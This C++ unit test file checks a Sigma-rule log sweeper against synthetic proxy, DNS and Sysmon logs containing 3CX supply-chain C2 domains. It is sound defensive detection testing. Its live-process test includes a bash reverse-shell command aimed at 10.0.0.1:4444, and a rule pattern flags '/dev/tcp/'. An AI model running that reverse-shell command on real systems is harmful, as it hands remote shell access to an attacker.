// Inputs: detection of each kind, and the built-in 3CX rules firing through
// the Sweeper on synthetic Squid, W3C, Zeek, flat JSON Lines and EVTX-layout
// JSON files and on a live process; findings carry the contract's fields.
#include <gtest/gtest.h>
#include <unistd.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <map>

#include "trawl/sigma/builtin.h"
#include "trawl/sigma/sweep.h"
#include "trawl/testsupport/temp_dir.h"

namespace trawl::sigma {
namespace {

namespace fs = std::filesystem;

// The shared helper; Write(name, text) returns the file's full path.
using testsupport::TempDir;

const Engine& Builtin() {
  static Engine* e = [] {
    auto* eng = new Engine(Mapping::Default());
    AddBuiltinRules(*eng);
    eng->AddText(
        "title: Linux reverse shell\nid: 33333333-3333-3333-3333-333333333333\nlevel: critical\n"
        "status: test\ntags: [attack.execution]\n"
        "logsource:\n  product: linux\n  category: process_creation\n"
        "detection:\n  s:\n    Image|endswith: '/bash'\n    CommandLine|contains: '/dev/tcp/'\n"
        "  condition: s\n",
        "linux.yml");
    EXPECT_TRUE(eng->Finish().ok());
    return eng;
  }();
  return *e;
}

struct ScanRun {
  std::vector<Finding> machine, human;
  std::vector<ErrorRecord> errors;
};

ScanRun Scan(const std::string& path) {
  Sweeper sw(Builtin());
  auto w = sw.NewWorker();
  std::ifstream in(path, std::ios::binary);
  std::string head(4096, '\0');
  in.read(head.data(), static_cast<std::streamsize>(head.size()));
  head.resize(static_cast<std::size_t>(in.gcount()));
  InputKind kind = sw.Claims(path, head);
  ScanRun r;
  EXPECT_NE(kind, InputKind::kNone) << path;
  Status st = sw.ScanFile(
      path, path, kind, *w,
      [&](Finding& f) {
        (f.audience == Finding::Audience::kHuman ? r.human : r.machine).push_back(f);
      },
      [&](const ErrorRecord& e) { r.errors.push_back(e); });
  EXPECT_TRUE(st.ok()) << st.message();
  return r;
}

std::map<std::string, FieldValue> Extra(const Finding& f) {
  std::map<std::string, FieldValue> m;
  for (const auto& [k, v] : f.extra) m[k] = v;
  return m;
}

TEST(SigmaInputs, Detection) {
  EXPECT_EQ(DetectInput("a.evtx", std::string("ElfFile\0xx", 10)), InputKind::kEvtx);
  EXPECT_EQ(DetectInput("x.log", "#separator \\x09\n#path\tdns\n"), InputKind::kZeek);
  EXPECT_EQ(DetectInput("u_ex.log", "#Software: Microsoft IIS\n#Fields: date\n"), InputKind::kW3c);
  EXPECT_EQ(DetectInput("e.json", "{\"a\":1}"), InputKind::kJson);
  EXPECT_EQ(DetectInput("e.txt", "{\"Event\":{}}"), InputKind::kJson);
  EXPECT_EQ(DetectInput("e.txt", "{\"a\":1}"), InputKind::kNone);
  EXPECT_EQ(DetectInput("access.log",
                        "1680000000.123    45 10.0.0.5 TCP_MISS/200 512 GET http://x/ - DIRECT/1.2.3.4 text/html\n"),
            InputKind::kSquid);
  EXPECT_EQ(DetectInput("notes.txt", "hello world\n"), InputKind::kNone);
}

TEST(SigmaInputs, SquidProxyLogFires3cxRules) {
  TempDir d;
  std::string p = d.Write(
      "access.log",
      "1680000000.123    45 10.0.0.5 TCP_MISS/200 512 GET http://www.msstorageboxes.com/x - "
      "DIRECT/1.2.3.4 text/html\n"
      "1680000001.000    45 10.0.0.5 TCP_MISS/200 512 GET http://example.org/ok - DIRECT/1.2.3.5 "
      "text/html\n"
      "garbage line\n"
      "1680000002.000    45 10.0.0.6 TCP_MISS/200 512 GET "
      "https://raw.githubusercontent.com/IconStorages/images/main/icon12.ico - DIRECT/1.2.3.6 "
      "image/x-icon\n"
      "1680000003.000    45 10.0.0.5 TCP_MISS/200 512 GET http://www.msstorageboxes.com/y - "
      "DIRECT/1.2.3.4 text/html\n");
  ScanRun r = Scan(p);
  ASSERT_EQ(r.machine.size(), 3u);
  auto x = Extra(r.machine[0]);
  EXPECT_EQ(r.machine[0].module, "sigma");
  EXPECT_EQ(std::get<std::string>(x["rule_id"]), "3c4b3bbf-36b4-470c-b6cf-f07e8b1c7e26");
  EXPECT_EQ(std::get<std::string>(x["rule_level"]), "high");
  EXPECT_EQ(std::get<std::int64_t>(x["record"]), 1);
  EXPECT_EQ(std::get<std::string>(x["time"]), "2023-03-28T10:40:00.123Z");
  EXPECT_EQ(std::get<std::string>(x["matched"]), "cs-host=www.msstorageboxes.com");
  EXPECT_EQ(std::get<std::string>(x["input"]), "squid");
  EXPECT_EQ(r.machine[0].reasons[0].kind, "sigma");
  EXPECT_EQ(r.machine[0].reasons[0].score, 70);
  EXPECT_EQ(r.machine[0].level, Level::kWarning);
  EXPECT_EQ(std::get<std::string>(Extra(r.machine[1])["rule_title"]),
            "Potential Compromised 3CXDesktopApp ICO C2 File Download");
  // One console aggregate per rule, with the hit count and time span.
  ASSERT_EQ(r.human.size(), 2u);
  std::map<std::string, std::int64_t> hits;
  for (const Finding& f : r.human) hits[std::get<std::string>(Extra(f)["rule_id"])] =
      std::get<std::int64_t>(Extra(f)["hits"]);
  EXPECT_EQ(hits["3c4b3bbf-36b4-470c-b6cf-f07e8b1c7e26"], 2);
  // The malformed line is reported, not fatal.
  ASSERT_EQ(r.errors.size(), 1u);
  EXPECT_EQ(r.errors[0].module, "sigma");
}

TEST(SigmaInputs, W3cLogWithProxyFields) {
  TempDir d;
  std::string p = d.Write("proxy.log",
                          "#Software: SomeProxy\n#Fields: date time c-ip cs-host c-uri sc-status\n"
                          "2023-03-29 10:00:00 10.1.1.1 pbxsources.com /x 200\n"
                          "2023-03-29 10:00:01 10.1.1.1 example.com /y 200\n");
  ScanRun r = Scan(p);
  ASSERT_EQ(r.machine.size(), 1u);
  EXPECT_EQ(std::get<std::string>(Extra(r.machine[0])["time"]), "2023-03-29T10:00:00Z");
}

TEST(SigmaInputs, ZeekFieldsAreNamedAndTagged) {
  EventBuilder b;
  TextLogParser parser(InputKind::kZeek);
  std::vector<std::map<std::string, std::string>> got;
  std::string service;
  auto fn = [&](const Event& e) {
    std::map<std::string, std::string> m;
    for (const auto& [k, v] : e.fields) m[std::string(k)] = std::string(v);
    got.push_back(m);
    service = std::string(e.service);
    EXPECT_EQ(e.product, "zeek");
  };
  for (const char* line : {"#separator \\x09", "#path\tdns", "#unset_field\t-",
                           "#fields\tts\tquery\tqtype_name\tanswers",
                           "1680000000.5\tpbxsources.com\tA\t-"})
    parser.Line(line, 1, b, fn);
  ASSERT_EQ(got.size(), 1u);
  EXPECT_EQ(service, "dns");
  EXPECT_EQ(got[0]["query"], "pbxsources.com");
  EXPECT_EQ(got[0].count("answers"), 0u);  // unset
}

TEST(SigmaInputs, JsonLinesFlatAndEvtxLayout) {
  TempDir d;
  std::string p = d.Write(
      "events.jsonl",
      "{\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"EventID\":22,\"Computer\":\"pc1\","
      "\"EventRecordID\":7,\"Image\":\"C:\\\\Program Files\\\\3CXDesktopApp\\\\3CXDesktopApp.exe\","
      "\"QueryName\":\"www.pbxsources.com\"}\n"
      "not json at all {\n"
      "{\"Event\":{\"System\":{\"Provider\":{\"#attributes\":{\"Name\":\"Microsoft-Windows-Sysmon\"}},"
      "\"EventID\":22,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Computer\":\"pc2\","
      "\"EventRecordID\":8,\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"2023-03-29T01:02:03Z\"}}},"
      "\"EventData\":{\"Image\":\"C:\\\\x\\\\3CXDesktopApp.exe\",\"QueryName\":\"msstorageboxes.com\"}}}\n");
  ScanRun r = Scan(p);
  ASSERT_EQ(r.machine.size(), 2u);
  auto a = Extra(r.machine[0]), b = Extra(r.machine[1]);
  EXPECT_EQ(std::get<std::string>(a["computer"]), "pc1");
  EXPECT_EQ(std::get<std::int64_t>(a["event_id"]), 22);
  EXPECT_EQ(std::get<std::int64_t>(a["record"]), 7);
  EXPECT_EQ(std::get<std::string>(b["computer"]), "pc2");
  EXPECT_EQ(std::get<std::string>(b["time"]), "2023-03-29T01:02:03Z");
  EXPECT_EQ(std::get<std::string>(b["provider"]), "Microsoft-Windows-Sysmon");
  EXPECT_EQ(r.errors.size(), 1u);  // the broken object
}

TEST(SigmaInputs, LiveProcess) {
  Sweeper sw(Builtin());
  auto w = sw.NewWorker();
  ProcessInfo p;
  p.pid = 4242;
  p.ppid = 1;
  p.image = "/usr/bin/bash";
  p.command_line = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";
  p.user = "www-data";
  std::vector<Finding> got;
  sw.ScanProcess(p, "process 4242", *w, [&](Finding& f) { got.push_back(f); });
  ASSERT_EQ(got.size(), 1u);
  auto x = Extra(got[0]);
  EXPECT_EQ(std::get<std::int64_t>(x["pid"]), 4242);
  EXPECT_EQ(std::get<std::string>(x["input"]), "process");
  EXPECT_EQ(got[0].level, Level::kAlert);  // critical: 100
  p.command_line = "bash";
  got.clear();
  sw.ScanProcess(p, "process 4242", *w, [&](Finding& f) { got.push_back(f); });
  EXPECT_TRUE(got.empty());
  auto summary = sw.Summary({w.get()});
  std::map<std::string, FieldValue> s(summary.begin(), summary.end());
  EXPECT_EQ(std::get<std::int64_t>(s["sigma_events"]), 2);
  EXPECT_EQ(std::get<std::int64_t>(s["sigma_hits"]), 1);
  EXPECT_EQ(std::get<std::int64_t>(s["sigma_hits_critical"]), 1);
  EXPECT_EQ(std::get<std::int64_t>(s["sigma_rules"]), 9);
}

}  // namespace
}  // namespace trawl::sigma
